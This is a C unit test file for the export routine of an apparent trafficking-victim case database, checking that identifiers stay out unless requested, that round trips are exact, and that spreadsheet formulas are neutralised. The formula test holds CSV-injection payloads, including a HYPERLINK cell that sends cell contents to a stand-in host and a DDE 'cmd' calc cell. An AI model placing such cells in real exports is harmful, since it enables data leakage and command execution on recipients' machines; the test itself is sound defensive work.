/*
 * test_export.c -- cb_export: identifying details only when asked (and then recorded as an event), never in
 * CTDC, import -> export -> import -> export giving the same file for HTCDS, CTDC and JSON lines, and
 * spreadsheet formulas neutralised on the way out and restored on the way in.
 */
#include "io_test.h"

#include "store/db.h"
#include "store/store_impl.h"

static const char htcds_text[] =
	"x_site,x_registered_on,x_birth_year,prs_Gender,prs_Citizenship,prs_FirstName,prs_MobilePhone,"
	"vic_TypeOfExploitation,x_labour_sector,vic_MethodsOfControl,x_recruiter_relation,x_destination_country,"
	"x_narrative,x_consent_statistics\n"
	"NORTH-1,2020-05-01,1990,Feminine,PH,Secretname,+15550001,ForcedLabour;SexualExploitation,"
	"construction,DebtBondage;Other,family,MY,\"long, private story\",yes\n"
	"NORTH-1,2021-01-02,2006,TransgenderMasculine,VN,,,ChildLabour,,,unknown,TH,,no\n"
	"SOUTH-2,2019-12-31,,NonSpecifiedUnknown,,Othername,,,,,,,,\n";

static struct cb_store *loaded(const char *name)
{
	struct cb_store *s = iot_store(name);
	struct cb_import_result res;
	struct cb_err err = {0};
	const char *in = cbt_path("%s.csv", name);
	cbt_write(in, htcds_text);
	if (cb_import_file(s, in, NULL, &res, &err) != CB_OK)
		fail_msg("%s", err.msg);
	assert_int_equal(res.imported, 3);
	return s;
}

static long events(struct cb_store *s, const char *action)
{
	struct cb_stmt *st = NULL;
	long n = -1;
	assert_int_equal(cb_db_prepare(s->db, "SELECT count(*) FROM events WHERE action = ?1", &st, NULL), CB_OK);
	cb_db_bind_text(st, 1, action, -1, false);
	if (cb_db_step(st) == CB_DB_ROW)
		n = (long)cb_db_column_int64(st, 0);
	cb_db_finalize(&st);
	return n;
}

static void test_identifiers_only_when_asked(void **state)
{
	(void)state;
	struct cb_store *s = loaded("a.db");
	static const char *const formats[] = {"htcds", "ctdc", "jsonl"};
	for (size_t i = 0; i < CB_COUNTOF(formats); i++) {
		char *t = iot_export(s, formats[i], false);
		assert_null(strstr(t, "Secretname"));
		assert_null(strstr(t, "Othername"));
		assert_null(strstr(t, "+1555"));
		assert_null(strstr(t, "private"));
		free(t);
	}
	assert_int_equal(events(s, "export.identifiers"), 0);

	char *h = iot_export(s, "htcds", true);
	assert_non_null(strstr(h, "Secretname"));
	assert_non_null(strstr(h, "\"long, private story\""));
	free(h);
	assert_int_equal(events(s, "export.identifiers"), 1);
	char *c = iot_export(s, "ctdc", true); /* CTDC has no column for them */
	assert_null(strstr(c, "Secretname"));
	free(c);
	assert_int_equal(events(s, "export.identifiers"), 2);
	cb_store_free(&s);
}

/* import -> export A -> import into a new database -> export B: A == B. */
static void round_trip(const char *format, bool pii)
{
	static int runs;
	char db[64];
	snprintf(db, sizeof db, "%s-%d.db", format, ++runs);
	struct cb_store *s = loaded(db), *t;
	struct cb_import_result res;
	struct cb_err err = {0};
	char *first = iot_export(s, format, pii);
	const char *path = cbt_path("%s-%d.export", format, runs);
	cbt_write(path, first);
	snprintf(db, sizeof db, "%s-%d-again.db", format, runs);
	t = iot_store(db);
	struct cb_import_opts o = {.format = format};
	if (cb_import_file(t, path, &o, &res, &err) != CB_OK)
		fail_msg("%s: %s", format, err.msg);
	assert_int_equal(res.imported, 3);
	assert_int_equal(res.rejected, 0);
	char *second = iot_export(t, format, pii);
	assert_string_equal(first, second);
	/* and importing the export again adds nothing */
	assert_int_equal(cb_import_file(t, path, &o, &res, &err), CB_OK);
	assert_int_equal(res.imported, 0);
	assert_int_equal(res.duplicates, 3);
	free(first);
	free(second);
	cb_store_free(&s);
	cb_store_free(&t);
}

static void test_round_trip_htcds(void **state)
{
	(void)state;
	round_trip("htcds", false);
	round_trip("htcds", true);
}

static void test_round_trip_ctdc(void **state)
{
	(void)state;
	round_trip("ctdc", false);
}

static void test_round_trip_jsonl(void **state)
{
	(void)state;
	round_trip("jsonl", true);
}

/* Cells a spreadsheet would run (OWASP CSV injection) leave in an export with identifiers behind a ' and in
 * quotes; a plain negative number does not; and the import takes the ' off again, so the values come back
 * exactly and a second export is the same file. */
static void test_formulas_neutralised(void **state)
{
	(void)state;
	static const char text[] = "x_site,x_registered_on,prs_FirstName,prs_SecondName,x_narrative,x_birth_year\n"
				   "NORTH-1,2020-05-01,\"=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"Open\"\")\","
				   "\"+1+cmd|' /C calc'!A0\",@SUM(1+1),1990\n";
	struct cb_store *s = iot_store("formula.db"), *t = iot_store("formula-again.db");
	struct cb_import_result res;
	struct cb_err err = {0};
	const char *in = cbt_path("formula.csv"), *out = cbt_path("formula.export");
	cbt_write(in, text);
	assert_int_equal(cb_import_file(s, in, NULL, &res, &err), CB_OK);
	assert_int_equal(res.imported, 1);
	char *first = iot_export(s, "htcds", true);
	assert_non_null(strstr(first, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"Open\"\")\","));
	assert_non_null(strstr(first, ",\"'+1+cmd|' /C calc'!A0\","));
	assert_non_null(strstr(first, ",\"'@SUM(1+1)\""));
	assert_null(strstr(first, ",=HYPERLINK"));
	assert_null(strstr(first, ",+1+cmd"));
	assert_null(strstr(first, ",@SUM"));

	struct cb_case c;
	int rc;
	assert_int_equal(iot_read(&cb_format_htcds, first, &c, 1, &rc, &err, NULL), 1);
	assert_int_equal(rc, CB_OK);
	assert_string_equal(c.first_name, "=HYPERLINK(\"http://x.example/\"&A1,\"Open\")");
	assert_string_equal(c.last_name, "+1+cmd|' /C calc'!A0");
	assert_string_equal(c.narrative, "@SUM(1+1)");
	cb_case_clear(&c);
	cbt_write(out, first);
	assert_int_equal(cb_import_file(t, out, NULL, &res, &err), CB_OK);
	assert_int_equal(res.imported, 1);
	char *second = iot_export(t, "htcds", true);
	assert_string_equal(first, second);
	free(first);
	free(second);
	cb_store_free(&s);
	cb_store_free(&t);
}

static void test_unknown_and_import_only_formats(void **state)
{
	(void)state;
	struct cb_store *s = iot_store("b.db");
	struct cb_err err = {0};
	char *text = NULL;
	size_t len = 0;
	FILE *w = open_memstream(&text, &len);
	assert_int_equal(cb_export(s, w, "xlsx", false, &err), CB_EINVAL);
	assert_non_null(strstr(err.msg, "xlsx"));
	assert_int_equal(cb_export(s, w, "ctdc-synthetic", false, &err), CB_EINVAL);
	assert_int_equal(cb_export(s, w, "ctdc-synthetic", true, &err), CB_EINVAL);
	assert_int_equal(events(s, "export.identifiers"), 0);
	fclose(w);
	assert_int_equal(len, 0);
	free(text);
	cb_store_free(&s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_identifiers_only_when_asked),
		cmocka_unit_test(test_round_trip_htcds),
		cmocka_unit_test(test_round_trip_ctdc),
		cmocka_unit_test(test_round_trip_jsonl),
		cmocka_unit_test(test_unknown_and_import_only_formats),
		cmocka_unit_test(test_formulas_neutralised),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
